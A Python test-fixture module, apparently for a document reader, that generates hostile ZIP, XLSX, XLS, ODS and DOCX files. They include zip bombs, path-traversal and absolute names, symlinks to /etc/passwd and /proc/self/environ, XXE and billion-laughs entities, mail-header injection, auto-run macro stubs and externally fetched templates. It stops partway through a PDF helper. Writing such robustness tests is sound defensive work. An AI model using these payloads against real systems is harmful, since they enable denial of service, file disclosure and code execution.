"""Files made to harm whoever opens them, put together by hand: each function says in a sentence what it attacks.

``FILES`` holds them by a name that ends as the file's would. All of them are small, and made in well under a second.
"""

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass

from bot.adapters.readers_wire import dump_documents
from bot.core.document import Document
from bot.testing.archives import winmail
from bot.testing.documents import File, five
from bot.testing.facts import facts
from bot.testing.old_books import ODS, as_xls

Make = Callable[[], bytes]
FILES: dict[str, Make] = {}

MEBIBYTE = 1 << 20
NOTHING: Mapping[str, str] = {}
GOOD = {file.filename: file.content for file in five(facts(5))}
MEMO = next(content for name, content in GOOD.items() if name.endswith(".xlsx"))
LETTER = next(content for name, content in GOOD.items() if name.endswith(".pdf"))


def attack(suffix: str) -> Callable[[Make], Make]:
    """Enters a function among the files, under its own name with this ending."""

    def enter(make: Make) -> Make:
        FILES[f"{make.__name__}.{suffix}"] = make
        return make

    return enter


def bytes_told(documents: Iterable[Document]) -> int:
    """How much a reader has to say of documents."""
    return len(dump_documents(documents))


# ---------------------------------------------------------------- ZIP


@dataclass(frozen=True, slots=True, kw_only=True)
class Entry:
    """One entry of an archive, every number of which may be a lie."""

    name: bytes = b"memo.xlsx"
    data: bytes = b""
    method: int = 0
    flags: int = 0
    crc: int | None = None
    packed: int | None = None
    size: int | None = None
    extra: bytes = b""
    mode: int = 0
    at: int | None = None
    is_listed_only: bool = False

    def numbers(self) -> tuple[int, int, int]:
        """Checksum, packed and unpacked size."""
        crc = zlib.crc32(self.data) if self.crc is None else self.crc
        packed = len(self.data) if self.packed is None else self.packed
        return crc, packed, len(self.data) if self.size is None else self.size

    def local(self) -> bytes:
        """Its header before its bytes (APPNOTE 4.3.7), and these."""
        if self.is_listed_only:
            return b""
        lengths = (len(self.name), len(self.extra))
        head = struct.pack("<4s5H3I2H", b"PK\3\4", 20, self.flags, self.method, 0, 33, *self.numbers(), *lengths)
        return head + self.name + self.extra + self.data

    def listed(self, at: int) -> bytes:
        """Its entry in the directory (APPNOTE 4.3.12)."""
        head = struct.pack("<4s6H3I", b"PK\1\2", 0x314, 20, self.flags, self.method, 0, 33, *self.numbers())
        where = at if self.at is None else self.at
        tail = struct.pack("<5H2I", len(self.name), len(self.extra), 0, 0, 0, self.mode << 16, where)
        return head + tail + self.name + self.extra


def archive_of(*entries: Entry, disk: int = 0, count: int | None = None, start: int | None = None) -> bytes:
    """An archive of entries as they are, with a directory whose own numbers may be lies as well."""
    body, directory = bytearray(), bytearray()
    for entry in entries:
        directory += entry.listed(len(body))
        body += entry.local()
    listed = min(len(entries), 0xFFFF) if count is None else count
    where = len(body) if start is None else start
    end = struct.pack("<4s4H2IH", b"PK\5\6", disk, disk, listed, listed, len(directory), where, 0)
    return bytes(body + directory) + end


def packed(files: Mapping[str, bytes]) -> bytes:
    """An honest archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def deflated(data: bytes) -> bytes:
    """Without head and checksum, as in an archive."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def _zeros(count: int) -> bytes:
    return deflated(bytes(count))


@attack("zip")
def flat_bomb() -> bytes:
    """Unpacks to sixty megabytes of nothing."""
    return packed({"memo.xlsx": bytes(60 * MEBIBYTE)})


@attack("zip")
def lying_bomb() -> bytes:
    """Says that its sixty megabytes are sixty bytes."""
    data = _zeros(60 * MEBIBYTE)
    return archive_of(Entry(data=data, method=8, packed=len(data), size=60))


@attack("zip")
def bomb_that_says_nothing() -> bytes:
    """Says that its sixty megabytes are none, and that their sizes follow them."""
    data = _zeros(60 * MEBIBYTE)
    return archive_of(Entry(data=data, method=8, flags=8, crc=0, packed=len(data), size=0))


@attack("zip")
def nested_bomb() -> bytes:
    """Forty archives in one, each of which stays within the limits and unpacks to forty megabytes."""
    inner = packed({"a.bmp": bytes(40 * MEBIBYTE)})
    loose = bytes(range(256)) * 1000
    return packed({f"{n}.zip": inner + loose for n in range(40)})


@attack("zip")
def overlapping_entries() -> bytes:
    """A thousand entries that all begin at the same bytes."""
    data = _zeros(MEBIBYTE)
    first = Entry(data=data, method=8, crc=zlib.crc32(bytes(MEBIBYTE)), size=MEBIBYTE)
    others = (Entry(data=data, method=8, crc=first.crc, size=MEBIBYTE, at=0, is_listed_only=True),) * 99
    return archive_of(first, *others)


@attack("zip")
def own_copy() -> bytes:
    """An archive whose only entry is an archive of which every level holds the next, twenty deep."""
    content = MEMO
    for level in range(20):
        content = packed({f"{level}.zip": content})
    return content


@attack("zip")
def entry_that_is_the_archive() -> bytes:
    """An entry that begins at the first byte of its own archive, and so holds itself."""
    whole = archive_of(Entry(name=b"a.zip", data=b"x" * 200))
    return archive_of(Entry(name=b"a.zip", data=whole, at=0, packed=len(whole) * 3, size=len(whole) * 3))


@attack("zip")
def directory_elsewhere() -> bytes:
    """A directory that says it begins far behind the end."""
    return archive_of(Entry(data=MEMO), start=0xFFFFFFF0)


@attack("zip")
def directory_of_too_many() -> bytes:
    """A directory that announces sixty thousand entries and has one."""
    return archive_of(Entry(data=MEMO), count=60_000)


@attack("zip")
def sixty_four_bits() -> bytes:
    """Sizes that are said to stand in sixty-four bits, and are enormous there."""
    extra = struct.pack("<2H3Q", 1, 24, 1 << 62, 1 << 62, 0)
    return archive_of(Entry(data=MEMO, packed=0xFFFFFFFF, size=0xFFFFFFFF, extra=extra, at=0xFFFFFFFF))


@attack("zip")
def sixty_four_bits_locator() -> bytes:
    """A directory in sixty-four bits that begins behind the end of everything."""
    plain = archive_of(Entry(data=MEMO))
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, (1 << 63) - 1, 1)
    return plain[:-22] + locator + plain[-22:]


@attack("zip")
def hundred_thousand_entries() -> bytes:
    """A directory of a hundred thousand entries that are nowhere."""
    return archive_of(Entry(data=MEMO), *(Entry(name=b"%d" % n, at=0, is_listed_only=True) for n in range(100_000)))


@attack("zip")
def endless_extras() -> bytes:
    """Entries whose extra fields are sixteen thousand empty ones each."""
    extra = struct.pack("<2H", 0xCAFE, 0) * 16_000
    return archive_of(
        Entry(data=MEMO), *(Entry(name=b"%d" % n, extra=extra, at=0, is_listed_only=True) for n in range(25))
    )


@attack("zip")
def locked() -> bytes:
    """Encrypted by its own word, though it is not."""
    return archive_of(Entry(data=MEMO, flags=1))


@attack("zip")
def locked_strongly() -> bytes:
    """Encrypted as AES, with the fields that go with it."""
    extra = struct.pack("<2H2s2sBH", 0x9901, 7, b"\2\0", b"AE", 3, 8)
    return archive_of(Entry(data=MEMO, flags=1, method=99, extra=extra))


@attack("zip")
def locked_directory() -> bytes:
    """Whose directory itself is said to be encrypted."""
    return archive_of(Entry(data=MEMO, flags=0x2041))


@attack("zip")
def upward_names() -> bytes:
    """Names that lead out of the folder, with slashes of both kinds."""
    names = (b"../../../../tmp/hostil-zip.xlsx", b"..\\..\\hostil-zip.xlsx", b"a/../../hostil.xlsx")
    return archive_of(*(Entry(name=name, data=MEMO) for name in names))


@attack("zip")
def absolute_names() -> bytes:
    """Names that begin at the root, at a drive or at a server."""
    names = (b"/etc/cron.d/memo.xlsx", b"C:\\Windows\\memo.xlsx", b"\\\\servidor\\memo.xlsx")
    return archive_of(*(Entry(name=name, data=MEMO) for name in names))


@attack("zip")
def names_with_nothing() -> bytes:
    """Names with a zero byte in them, and names of nothing at all."""
    names = (b"memo.xlsx\x00.exe", b"\x00", b"", b"/", b"..", b".")
    return archive_of(*(Entry(name=name, data=MEMO) for name in names))


@attack("zip")
def names_in_lines() -> bytes:
    """Names that go on as headers of a mail."""
    name = b"memo.xlsx\r\nBcc: otro@afuera.example\r\n\r\nhola\n.xlsx"
    return archive_of(Entry(name=name, data=MEMO), Entry(name=b"memo\x1b[2J\x07\x85\xe2\x80\xa8.xlsx", data=MEMO))


@attack("zip")
def names_from_right_to_left() -> bytes:
    """A name that is shown backwards, and ends otherwise than it seems."""
    return archive_of(Entry(name="memo\u202exslx.exe".encode(), flags=0x800, data=MEMO))


@attack("zip")
def names_of_sixty_thousand_letters() -> bytes:
    """Thirty files with names as long as a name can be."""
    return archive_of(*(Entry(name=b"%02d" % n + b"m" * 65_000 + b".xlsx", data=MEMO) for n in range(30)))


@attack("zip")
def names_that_are_the_same() -> bytes:
    """Fifty different files under one name."""
    return archive_of(*(Entry(data=MEMO + b" " * n) for n in range(50)))


@attack("zip")
def names_of_no_alphabet() -> bytes:
    """Names that are said to be UTF-8 and are not."""
    return archive_of(Entry(name=b"\xff\xfe\xed\xa0\x80.xlsx", flags=0x800, data=MEMO))


@attack("zip")
def links() -> bytes:
    """Symbolic links to files that must not be read."""
    targets = (b"/etc/passwd", b"/proc/self/environ", b"../../../storage/ledger.db")
    return archive_of(*(Entry(name=b"%d.pdf" % n, data=one, mode=0o120777) for n, one in enumerate(targets)))


@attack("zip")
def one_disk_of_many() -> bytes:
    """Says that it is the seventh of many disks."""
    return archive_of(Entry(data=MEMO), disk=7)


@attack("zip")
def unknown_methods() -> bytes:
    """Packed in ways that nobody knows, and in those that need large memories."""
    return archive_of(
        *(Entry(name=b"%d.xlsx" % m, data=b"]\0\0\0\xff" + b"\xff" * 40, method=m) for m in (14, 12, 98, 7))
    )


@attack("zip")
def lzma_of_four_gigabytes() -> bytes:
    """Packed with LZMA and a dictionary of four gigabytes."""
    return archive_of(Entry(data=b"\x09\x14\x05\0]\xff\xff\xff\xff" + bytes(200), method=14, size=1000))


@attack("zip")
def two_archives() -> bytes:
    """One archive behind the other, so that readers may see either."""
    return archive_of(Entry(name=b"a.pdf", data=LETTER)) + archive_of(Entry(data=MEMO))


@attack("zip")
def texts_by_the_hundred() -> bytes:
    """A hundred workbooks, each with as much text as is kept of one."""
    book = _workbook(_rows([[f"palabra{n} hola" * 100] for n in range(150)]))
    return packed({f"{n}.xlsx": book for n in range(100)})


@attack("zip")
def pictures_by_the_hundred() -> bytes:
    """A hundred pictures of a page, of a megabyte each, in a few kilobytes."""
    return packed({f"{n}.bmp": _bmp(1000, 1000, bytes(MEBIBYTE)) for n in range(95)} | {"a.bin": _noise(500_000)})


def _noise(count: int) -> bytes:
    """Bytes that do not pack, always the same."""
    state, out = 1, bytearray()
    while len(out) < count:
        state = state * 6364136223846793005 + 1442695040888963407 & (1 << 64) - 1
        out += state.to_bytes(8, "little")
    return bytes(out[:count])


# ---------------------------------------------------------------- workbooks

_CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
    'ContentType="application/xml"/></Types>'
)
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _relations(**targets: str) -> str:
    each = "".join(
        f'<Relationship Id="{name}" Type="{_OFFICE}/{name.rstrip("0123456789")}" Target="{target}"/>'
        for name, target in targets.items()
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{each}</Relationships>'


def _workbook(
    sheet: str, parts: Mapping[str, str] = NOTHING, *, before: str = "", names: str = "", space: str = _SPREADSHEET
) -> bytes:
    """A workbook whose sheet is this XML, with other parts by their path."""
    listed = '<sheets><sheet name="Hoja1" sheetId="1" r:id="worksheet1"/></sheets>'
    book = f'<workbook xmlns="{space}" xmlns:r="{_OFFICE}">{listed}{names}</workbook>'
    files = {
        "[Content_Types].xml": _CONTENT_TYPES,
        "_rels/.rels": _relations(officeDocument="xl/workbook.xml"),
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": _relations(worksheet1="worksheets/sheet1.xml", sharedStrings="sharedStrings.xml"),
        "xl/worksheets/sheet1.xml": f'{before}<worksheet xmlns="{space}">{sheet}</worksheet>',
        **parts,
    }
    return packed({name: text.encode() for name, text in files.items()})


def _rows(rows: Iterable[Iterable[str]]) -> str:
    cells = (
        f'<row r="{r}">'
        + "".join(f'<c r="{_column(c)}{r}" t="inlineStr"><is><t>{text}</t></is></c>' for c, text in enumerate(row))
        + "</row>"
        for r, row in enumerate(rows, start=1)
    )
    return f"<sheetData>{''.join(cells)}</sheetData>"


def _column(index: int) -> str:
    return ("" if index < 26 else _column(index // 26 - 1)) + chr(ord("A") + index % 26)


_MEMO_ROWS = (("Memorando N°", "CAL-1-2026"), ("NIT", "900.123.456-8"), ("Contrato", "C-77"), ("Valor factura", "5"))
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
_LAUGHING = f'<!DOCTYPE x [<!ENTITY l0 "ja">{_LAUGHS}]>'


@attack("xlsx")
def laughing_sheet() -> bytes:
    """A billion laughs in the cells."""
    return _workbook(_rows([["&l11;"], *_MEMO_ROWS]), before=_LAUGHING)


@attack("xlsx")
def foreign_sheet() -> bytes:
    """An entity that is a file of the machine, and one that lies on a server."""
    entities = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "http://127.0.0.1:9/x">]>'
    return _workbook(_rows([["&f;", "&h;"], *_MEMO_ROWS]), before=entities)


@attack("xlsx")
def shared_strings() -> bytes:
    """A table of a million strings, most of them empty."""
    count = 'count="4294967295" uniqueCount="4294967295"'
    strings = f'<sst xmlns="{_SPREADSHEET}" {count}>{"<si><t>a</t></si>" * 1_000_000}</sst>'
    return _workbook(_rows(_MEMO_ROWS), {"xl/sharedStrings.xml": strings})


def _log_of(text: str, rows: int) -> bytes:
    headings = ("No.", "Fecha", "Hora", "Medio", "Persona contactada", "Cargo", "Resultado", "Responsable")
    row = "".join(f'<c r="{_column(c)}{{0}}" t="s"><v>0</v></c>' for c in range(len(headings)))
    head = _rows([headings]).removesuffix("</sheetData>")
    body = "".join(f'<row r="{r}">{row.replace("{0}", str(r))}</row>' for r in range(2, rows + 2))
    strings = f'<sst xmlns="{_SPREADSHEET}"><si><t>{text}</t></si></sst>'
    return _workbook(f"{head}{body}</sheetData>", {"xl/sharedStrings.xml": strings})


@attack("xlsx")
def one_long_string_everywhere() -> bytes:
    """A string of thirty thousand letters in every cell of a log."""
    return _log_of("larga " * 5_000, 230)


@attack("xlsx")
def long_strings_in_a_log() -> bytes:
    """A log in a few kilobytes of which a reader has megabytes to tell, and still may."""
    return _log_of("larga " * 200, 460)


@attack("xlsx")
def dimension_of_everything() -> bytes:
    """Says that it fills every cell that there can be."""
    return _workbook('<dimension ref="A1:XFD1048576"/>' + _rows(_MEMO_ROWS))


@attack("xlsx")
def cell_at_the_end() -> bytes:
    """Two cells, the first and the last that there can be."""
    first = '<row r="1"><c r="A1"><v>1</v></c></row>'
    return _workbook(f'<sheetData>{first}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')


@attack("xlsx")
def cell_beyond_the_end() -> bytes:
    """Cells in columns and rows that no number holds."""
    cells = "".join(
        f'<c r="{where}"><v>1</v></c>' for where in ("ZZZZZZZZZZ1", "A99999999999999999999", "-1", "", "ñ1")
    )
    return _workbook(f"<sheetData><row>{cells}</row></sheetData>")


@attack("xlsx")
def merges_by_the_hundred_thousand() -> bytes:
    """Three hundred thousand merged cells."""
    merges = "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(1, 300_001))
    return _workbook(_rows(_MEMO_ROWS) + f"<mergeCells>{merges}</mergeCells>")


@attack("xlsx")
def merges_of_everything() -> bytes:
    """Five thousand merges, each of which covers all there is."""
    rows = _rows([*_MEMO_ROWS, *([["x"] * 60] * 2_000)])
    return _workbook(rows + "<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 5_000 + "</mergeCells>")


@attack("xlsx")
def external_links() -> bytes:
    """A workbook that takes its values from a server."""
    cell = '<sheetData><row r="1"><c r="A1"><f>[1]Hoja1!A1+WEBSERVICE("http://127.0.0.1:9/")</f><v>5</v></c></row></sheetData>'
    link = f'<externalLink xmlns="{_SPREADSHEET}" xmlns:r="{_OFFICE}"><externalBook r:id="x"/></externalLink>'
    return _workbook(cell, {"xl/externalLinks/externalLink1.xml": link})


@attack("xlsx")
def names_in_a_circle() -> bytes:
    """A hundred thousand defined names, each of which is the next."""
    names = "".join(f'<definedName name="n{n}">n{(n + 1) % 100_000}</definedName>' for n in range(100_000))
    return _workbook(_rows(_MEMO_ROWS), names=f"<definedNames>{names}</definedNames>")


@attack("xlsx")
def strict_office() -> bytes:
    """In the strict form of the standard, which has other namespaces."""
    return _workbook(_rows(_MEMO_ROWS), space="http://purl.oclc.org/ooxml/spreadsheetml/main")


@attack("xlsx")
def errors_everywhere() -> bytes:
    """Fifty thousand cells that show an error, which sends the file to the slow library as well."""
    row = "".join(f'<c r="{_column(c)}{{0}}" t="e"><v>#REF!</v></c>' for c in range(25))
    body = "".join(f'<row r="{r}">{row.replace("{0}", str(r))}</row>' for r in range(1, 2_001))
    return _workbook(f"<sheetData>{body}</sheetData>")


@attack("xlsx")
def error_at_the_end() -> bytes:
    """One error, in the last cell that there can be."""
    head = _rows(_MEMO_ROWS).removesuffix("</sheetData>")
    return _workbook(head + '<row r="1048576"><c r="XFD1048576" t="e"><v>#REF!</v></c></row></sheetData>')


@attack("xlsx")
def deep_sheet() -> bytes:
    """A hundred thousand elements in each other."""
    return _workbook(_rows(_MEMO_ROWS) + "<x>" * 100_000 + "</x>" * 100_000)


@attack("xlsx")
def many_sheets() -> bytes:
    """A workbook that lists one sheet under fifty thousand names."""
    sheets = "".join(f'<sheet name="h{n}" sheetId="{n}" r:id="worksheet1"/>' for n in range(50_000))
    book = f'<workbook xmlns="{_SPREADSHEET}" xmlns:r="{_OFFICE}"><sheets>{sheets}</sheets></workbook>'
    return _workbook(_rows(_MEMO_ROWS), {"xl/workbook.xml": book})


@attack("xlsx")
def sheet_outside() -> bytes:
    """A sheet that is said to lie outside of the file."""
    relations = _relations(worksheet1="../../../../../../etc/passwd", sharedStrings="/proc/self/environ")
    return _workbook(_rows(_MEMO_ROWS), {"xl/_rels/workbook.xml.rels": relations})


@attack("xlsx")
def control_letters() -> bytes:
    """Cells with letters that no file format, ledger or header of a mail can hold."""
    rows = (
        ("Memorando N°", "CAL-1_x0000_-2026"),
        ("Razón social", "AGRO_x0000_\u202eSAS_xD800_&#13;&#10;Bcc: a@b.example"),
    )
    return _workbook(_rows((*rows, *_MEMO_ROWS[1:])))


@attack("xlsx")
def numbers_beyond_measure() -> bytes:
    """Amounts and days that no type holds."""
    values = ("1E+308", "NaN", "INF", "-1E400", "9" * 300)
    labels = ("Valor factura", "Fecha", "Valor a anular", "NIT", "Fecha del memorando")
    cells = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{label}</t></is></c><c r="B{n}"><v>{value}</v></c></row>'
        for n, (label, value) in enumerate(zip(labels, values, strict=True), start=1)
    )
    return _workbook(f"<sheetData>{cells}</sheetData>")


@attack("xlsx")
def drawings_in_a_circle() -> bytes:
    """A hundred thousand drawings, and entities among them."""
    space = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
    drawing = f'{_LAUGHING}<d:wsDr xmlns:d="{space}">{"<d:twoCellAnchor/>" * 30_000}&l11;</d:wsDr>'
    rows = _rows([*_MEMO_ROWS, ("Elaborado por", ""), ("", "")])
    return _workbook(rows, {"xl/drawings/drawing1.xml": drawing})


@attack("xlsx")
def no_styles_nor_sheet() -> bytes:
    """A workbook of nothing but its name."""
    return packed({"xl/workbook.xml": b"<workbook/>"})


@attack("xlsm")
def macros() -> bytes:
    """A memo with a project of macros that would run when it opens."""
    return _workbook(
        _rows(_MEMO_ROWS), {"xl/vbaProject.bin": 'Attribute VB_Name\nSub Auto_Open()\nShell "sh"\nEnd Sub' * 100}
    )


@attack("xlsb")
def binary_records() -> bytes:
    """A binary workbook whose records say that they are two gigabytes long."""
    record = b"\x83\x01\xff\xff\xff\x7f" + b"\x00" * 40
    return packed(
        {"[Content_Types].xml": _CONTENT_TYPES.encode(), "xl/workbook.bin": record * 100, "_rels/.rels": b"<x/>"}
    )


OLD_MEMO = as_xls(MEMO)


def _changed(content: bytes, at: int, by: bytes) -> bytes:
    return content[:at] + by + content[at + len(by) :]


@attack("xls")
def sectors_in_a_circle() -> bytes:
    """A table of sectors in which every sector leads to the first."""
    return _changed(OLD_MEMO, 512, struct.pack("<128I", *(n ^ 1 for n in range(128))))


@attack("xls")
def directory_in_a_circle() -> bytes:
    """A directory whose first sector is the table of sectors, and a master table that is itself."""
    return _changed(_changed(OLD_MEMO, 48, struct.pack("<I", 0)), 68, struct.pack("<II", 0, 0x7FFFFFFF))


@attack("xls")
def sectors_of_two_gigabytes() -> bytes:
    """Says that a sector has two to the power of sixty-three bytes."""
    return _changed(OLD_MEMO, 30, struct.pack("<H", 63))


@attack("xls")
def tables_without_number() -> bytes:
    """Says that four billion sectors hold its tables."""
    return _changed(OLD_MEMO, 44, struct.pack("<I", 0xFFFFFFFF))


@attack("xls")
def strings_without_number() -> bytes:
    """A table of strings that announces four billion."""
    at = OLD_MEMO.find(struct.pack("<H", 0x00FC))
    return _changed(OLD_MEMO, max(at, 512) + 4, b"\xff" * 8)


@attack("xls")
def records_cut() -> bytes:
    """A book that ends after a kilobyte."""
    return OLD_MEMO[:1024]


@attack("xls")
def records_of_nothing() -> bytes:
    """A book whose every record is of one kind and has no length."""
    at = OLD_MEMO.find(b"\x09\x08")
    return _changed(OLD_MEMO, at, b"\x09\x08\x00\x00" * ((len(OLD_MEMO) - at) // 4))


@attack("xls")
def a_stream_of_itself() -> bytes:
    """A head alone, with the name of a workbook behind it."""
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504) + "Workbook".encode("utf-16-le") * 10_000


@attack("xls")
def a_cell_far_away() -> bytes:
    """A number in the last cell of an old sheet."""
    head = struct.pack("<HH", 0x0203, 14)
    at = OLD_MEMO.find(head)
    return _changed(OLD_MEMO, at + 4, b"\xff\xff\xff\xff") if at >= 0 else OLD_MEMO[:-100]


@attack("xls")
def noise_in_a_book() -> bytes:
    """A book of which every seventh byte is another."""
    mixed = bytearray(OLD_MEMO)
    for at in range(600, len(mixed), 7):
        mixed[at] ^= 0x5A
    return bytes(mixed)


_OPEN = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
    '<table:table table:name="Hoja1">{rows}</table:table></office:spreadsheet></office:body></office:document-content>'
)


def _open_book(rows: str, before: str = "") -> bytes:
    manifest = b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    content = (before + _OPEN.replace("{rows}", rows)).encode()
    return packed({"mimetype": ODS.encode(), "content.xml": content, "META-INF/manifest.xml": manifest})


def _open_cell(text: str, more: str = "") -> str:
    return f'<table:table-cell office:value-type="string" {more}><text:p>{text}</text:p></table:table-cell>'


def _open_row(cells: str, more: str = "") -> str:
    return f"<table:table-row {more}>{cells}</table:table-row>"


@attack("ods")
def columns_repeated() -> bytes:
    """A cell that is repeated a billion times to the right."""
    return _open_book(_open_row(_open_cell("hola", 'table:number-columns-repeated="1000000000"')))


@attack("ods")
def rows_repeated() -> bytes:
    """A row of sixty cells that is repeated a billion times."""
    return _open_book(_open_row(_open_cell("hola") * 60, 'table:number-rows-repeated="1000000000"'))


@attack("ods")
def emptiness_repeated() -> bytes:
    """Empty cells and rows without end, as some programs write them, and one full cell behind."""
    empty = _open_row(
        '<table:table-cell table:number-columns-repeated="16384"/>', 'table:number-rows-repeated="1048575"'
    )
    return _open_book(empty + _open_row(_open_cell("hola")))


@attack("ods")
def repeated_by_no_number() -> bytes:
    """Counts that are no numbers, negative or too long."""
    counts = ("-5", "x", "", "9" * 5_000, "1e9")
    return _open_book("".join(_open_row(_open_cell("a", f'table:number-columns-repeated="{one}"')) for one in counts))


@attack("ods")
def merged_without_end() -> bytes:
    """A cell that is merged with a billion others, next to a row of merged ones."""
    wide = 'table:number-columns-spanned="1000000000" table:number-rows-spanned="1000000000"'
    return _open_book(_open_row(_open_cell("Memorando N°", wide) + _open_cell("CAL-1") * 60) * 100)


@attack("ods")
def laughing_open_book() -> bytes:
    """A billion laughs in the cells."""
    return _open_book(_open_row(_open_cell("&l11;")), before=_LAUGHING)


@attack("ods")
def foreign_open_book() -> bytes:
    """An entity that is a file of the machine."""
    return _open_book(_open_row(_open_cell("&f;")), before='<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>')


@attack("ods")
def deep_open_book() -> bytes:
    """Tables in tables, fifty thousand deep."""
    return _open_book("<table:table-row><table:table-cell><table:table>" * 50_000)


@attack("ods")
def endless_paragraphs() -> bytes:
    """One cell of two hundred thousand paragraphs."""
    return _open_book(
        _open_row(
            '<table:table-cell office:value-type="string">' + "<text:p>a</text:p>" * 200_000 + "</table:table-cell>"
        )
    )


@attack("ods")
def open_book_cut() -> bytes:
    """Content that ends in the middle of a name."""
    return packed({"mimetype": b"x", "content.xml": _OPEN.encode()[:300]})


# ---------------------------------------------------------------- Word

_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_WORD_SPACES = f'xmlns:w="{_WORD}" xmlns:r="{_OFFICE}"'


def letter_of(body: str, parts: Mapping[str, str] = NOTHING, *, before: str = "", relations: str = "") -> bytes:
    """A letter whose body is this XML, with other parts by their path."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    files = {
        "[Content_Types].xml": types,
        "_rels/.rels": _relations(officeDocument="word/document.xml"),
        "word/document.xml": f"{before}<w:document {_WORD_SPACES}><w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": relations or _relations(),
        **parts,
    }
    return packed({name: text.encode() for name, text in files.items()})


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


@attack("docx")
def tables_in_tables() -> bytes:
    """Tables in each other, ten thousand deep."""
    opening, closing = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    return letter_of(opening * 10_000 + _paragraph("hola") + closing * 10_000)


@attack("docx")
def tables_two_hundred_deep() -> bytes:
    """Tables in each other as deep as the parser allows, each cell of which is read by all above it."""
    opening, closing = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    return letter_of(opening * 75 + _paragraph("hola") * 2_000 + closing * 75)


@attack("docx")
def one_long_run() -> bytes:
    """A run of twenty million letters."""
    return letter_of(_paragraph("carta " * 3_500_000))


@attack("docx")
def endless_runs() -> bytes:
    """A paragraph of half a million runs."""
    return letter_of(f"<w:p>{'<w:r><w:t>a</w:t></w:r>' * 500_000}</w:p>")


@attack("docx")
def spanning_cells() -> bytes:
    """Cells that span two billion columns."""
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>{_paragraph("a")}</w:tc>'
    return letter_of(f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>")


@attack("docx")
def cells_merged_downwards() -> bytes:
    """Thousands of rows whose cells all go on from the row above, which is followed back for each."""
    first = f'<w:tr><w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr>{_paragraph("hola " * 300)}</w:tc></w:tr>'
    return letter_of(f"<w:tbl>{first}{'<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr>' * 20_000}</w:tbl>")


@attack("docx")
def other_formats_inside() -> bytes:
    """Chunks of HTML, RTF and of itself that a word processor would take in."""
    return letter_of('<w:altChunk r:id="aFChunk1"/>' * 50, relations=_relations(aFChunk1="document.xml"))


@attack("docx")
def template_from_a_server() -> bytes:
    """A template with macros that a word processor would fetch."""
    outside = _relations(attachedTemplate="http://127.0.0.1:9/x.dotm").replace("/>", ' TargetMode="External"/>')
    return letter_of(_paragraph("Señores"), relations=outside)


@attack("docx")
def laughing_letter() -> bytes:
    """A billion laughs in a paragraph."""
    return letter_of(_paragraph("&l11;"), before=_LAUGHING)


@attack("docx")
def foreign_letter() -> bytes:
    """An entity that is a file of the machine."""
    return letter_of(_paragraph("&f;"), before='<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>')


@attack("docx")
def quadratic_letter() -> bytes:
    """One long entity, many times."""
    return letter_of(_paragraph("&q;" * 30_000), before=f'<!DOCTYPE x [<!ENTITY q "{"q" * 30_000}">]>')


@attack("docx")
def letter_outside() -> bytes:
    """Relations that lead out of the file, and to themselves."""
    targets = _relations(header1="../../../../etc/passwd", footer1="../word/document.xml", image1="")
    head = '<w:headerReference w:type="default" r:id="header1"/>'
    section = f'<w:sectPr>{head}<w:footerReference w:type="default" r:id="footer1"/></w:sectPr>'
    return letter_of(_paragraph("hola") + section, relations=targets)


@attack("docm")
def letter_with_macros() -> bytes:
    """A letter with macros that would run when it opens."""
    return letter_of(_paragraph("Señores"), {"word/vbaProject.bin": "Sub AutoOpen()\nEnd Sub"})


# ---------------------------------------------------------------- PDF


def pdf_of(*objects: bytes, trailer: bytes = b"/Root 1 0 R", table: bool = True) -> bytes:
    """Objects, numbered from 1, with an honest table of them or none at all."""
    body, places = bytearray(b"%PDF-1.7\n"), []
    for number, each in enumerate(objects, start=1):
        places.append(len(body))
